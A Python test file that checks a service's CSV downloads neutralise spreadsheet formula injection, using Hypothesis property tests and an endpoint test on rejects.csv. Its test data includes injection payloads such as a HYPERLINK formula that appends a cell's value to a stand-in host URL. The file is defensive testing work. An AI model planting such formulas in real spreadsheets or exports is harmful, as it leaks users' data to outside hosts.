"""Downloads in CSV: no cell that a spreadsheet would run, in any route."""

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

import service
from service.core.csv_download import csv_line
from tests.builders import number, open_dataset
from tests.callers import Registry

FORMULA_STARTS = tuple("=+-@\t\r")
FORMULAS = ['=HYPERLINK("https://x.example")', " =1+1", "+33", "-1", "@SUM(1)", "\t=1", "\r=1"]
ANY_TEXT = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=12)
CELLS = ANY_TEXT | st.sampled_from(FORMULAS)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@given(st.lists(CELLS | st.integers() | st.none(), min_size=1, max_size=4))
def test_csv_line_has_no_formula_and_loses_nothing(row: list[str | int | None]) -> None:
    (cells,) = read(csv_line(*row))
    for value, cell in zip(row, cells, strict=True):
        if isinstance(value, int):
            assert cell == str(value)
        else:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS)
            assert cell.removeprefix("'") == (value or "").removeprefix("'")


def test_csv_line_keeps_plain_cells() -> None:
    assert csv_line("part", 1, None, "a;b", "l'été", -3) == "part,1,,a;b,l'été,-3\r\n"


def test_every_route_with_csv_is_written_by_the_same_writer() -> None:
    folder = Path(service.__file__).parent
    writers = {
        str(path.relative_to(folder))
        for path in folder.rglob("*.py")
        if "csv.writer(" in path.read_text("utf-8") or "csv.DictWriter(" in path.read_text("utf-8")
    }
    # The demonstration writes the files that it uploads, and the rows of a workbook become lines to be read.
    assert writers - {"demo/files.py", "intake/xlsx/lines.py"} == {"core/csv_download.py"}


def test_download_rejects_neutralises_formulas(registry: Registry) -> None:
    broker = registry.broker()
    dataset = open_dataset(broker)
    formulas = ['=HYPERLINK("https://x.example?"&A1)', "@SUM(1)", "-0639", "+x"]
    cells = ['"' + formula.replace('"', '""') + '"' for formula in formulas]
    broker.put_part(dataset["id"], ["telephone", *cells, number(1)])
    rows = read(broker.request("GET", f"/v1/datasets/{dataset['id']}/rejects.csv").text)
    assert [row[3] for row in rows[1:]] == [f"'{formula}" for formula in formulas]
